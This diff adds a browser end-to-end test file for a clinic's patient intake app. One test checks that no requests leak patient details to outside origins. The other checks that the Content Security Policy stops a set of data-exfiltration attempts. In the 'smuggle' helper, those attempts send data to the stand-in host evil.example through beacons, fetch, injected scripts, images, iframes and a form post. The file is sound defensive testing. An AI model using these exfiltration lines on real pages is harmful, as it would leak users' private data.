@@ -1,0 +1,117 @@
+/** From the first page to the review: nothing is asked of, or told to, anybody else; no address tells of anybody. */
+import type { BrowserContext } from '@playwright/test';
+import { ROSA } from '../../testing/browser/answers.ts';
+import { completeStep, confirmUnusual, patientWith, stepsOf } from '../../testing/browser/patient.ts';
+import { signIn } from '../../testing/browser/staff.ts';
+import { expect, test } from '../../testing/browser/test.ts';
+
+/** Where a whole context asks, workers and beacons included. */
+function addressesOf(context: BrowserContext): string[] {
+  const asked: string[] = [];
+  context.on('request', (request) => asked.push(request.url()));
+  return asked;
+}
+
+const ofNobody = (addresses: readonly string[], origin: string | undefined): void => {
+  expect(addresses.length).toBeGreaterThan(10);
+  const foreign = addresses.filter((url) => !/^(data|blob):/.test(url) && new URL(url).origin !== origin);
+  expect(foreign).toEqual([]);
+  // Ids and the hashes in the names of built files may hold any digits.
+  const said = addresses
+    .filter((url) => !/^(data|blob):/.test(url) && !url.includes('/assets/'))
+    .map((url) => url.toLowerCase().replace(/[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g, ''));
+  for (const canary of ['rosa', 'garc', '214', '212.4', encodeURIComponent('@')]) {
+    expect(
+      said.filter((url) => url.includes(canary)),
+      canary,
+    ).toEqual([]);
+  }
+};
+
+test('a whole intake and its review ask nobody but the clinic', async ({ browser, baseURL }) => {
+  const rosa = patientWith(ROSA, 'en');
+  const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, locale: 'en-US' });
+  const fromPhone = addressesOf(phone);
+  const page = await phone.newPage();
+  await page.goto('/');
+  await page.goto('/intake');
+  await page.getByRole('button', { name: 'Start' }).click();
+  for (const step of stepsOf(rosa)) {
+    await expect(page.getByRole('heading', { level: 1 })).toBeFocused();
+    await completeStep(page, rosa, step);
+    if (step.id === 'measurements') await confirmUnusual(page, rosa);
+  }
+  await page.getByRole('button', { name: 'Submit Application' }).click();
+  await expect(page.getByRole('heading', { level: 1, name: 'We have your answers' })).toBeVisible();
+  ofNobody(fromPhone, baseURL);
+  await phone.close();
+
+  const laptop = await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US' });
+  const fromLaptop = addressesOf(laptop);
+  const desk = await laptop.newPage();
+  await signIn(desk, 'physician');
+  await desk.getByPlaceholder('Search by patient name or email...').fill("o'neil-garc");
+  const card = desk.getByRole('listitem').filter({ hasText: 'GLP-1 Contraindication' }).first();
+  await card.getByRole('link', { name: /Review/ }).click();
+  await expect(desk.getByRole('heading', { name: 'Patient Submission Review' })).toBeVisible();
+  await desk.getByRole('tab', { name: /Health Flags/ }).click();
+  await desk.getByRole('tab', { name: /Review Notes/ }).click();
+  ofNobody(fromLaptop, baseURL);
+  await laptop.close();
+});
+
+test('what somebody smuggled into a page reaches nobody', async ({ page }) => {
+  const reached: string[] = [];
+  await page.context().route('https://evil.example/**', (route) => {
+    reached.push(route.request().url());
+    return route.fulfill({ body: '' });
+  });
+  await page.goto('/intake');
+  await expect(page.getByRole('button', { name: 'Start' })).toBeVisible();
+  const { blocked, ran } = await page.evaluate(smuggle);
+  expect(new Set(blocked)).toEqual(
+    new Set([
+      'connect-src',
+      'img-src',
+      'script-src-elem',
+      'script-src-attr',
+      'style-src-elem',
+      'form-action',
+      'frame-src',
+    ]),
+  );
+  expect(reached).toEqual([]);
+  expect(ran).toBe(false);
+});
+
+/** Runs in the page: every way out it can think of. Resolves to the rules that stopped them. */
+async function smuggle(): Promise<{ blocked: string[]; ran: boolean }> {
+  const blocked: string[] = [];
+  document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
+    blocked.push(effectiveDirective);
+  });
+  const evil = 'https://evil.example/?stolen=1';
+  const add = <Name extends keyof HTMLElementTagNameMap>(
+    name: Name,
+    properties: Partial<HTMLElementTagNameMap[Name]>,
+  ) => document.body.append(Object.assign(document.createElement(name), properties));
+  navigator.sendBeacon(evil, 'answers');
+  await fetch(evil).catch(() => undefined);
+  add('img', { src: evil });
+  add('script', { src: evil });
+  add('script', { text: 'document.documentElement.dataset.ran = "1"' });
+  add('link', { rel: 'stylesheet', href: evil });
+  add('iframe', { src: evil });
+  const button = document.createElement('button');
+  button.setAttribute('onclick', 'document.documentElement.dataset.ran = "1"');
+  button.click();
+  const form = Object.assign(document.createElement('form'), { action: evil, method: 'post' });
+  document.body.append(form);
+  form.submit();
+  // Told in tasks of their own.
+  const enough = () => new Set(blocked).size >= 7;
+  for (let turn = 0; turn < 500 && !enough(); turn += 1) {
+    await new Promise((resolve) => requestAnimationFrame(resolve));
+  }
+  return { blocked, ran: document.documentElement.dataset.ran !== undefined };
+}
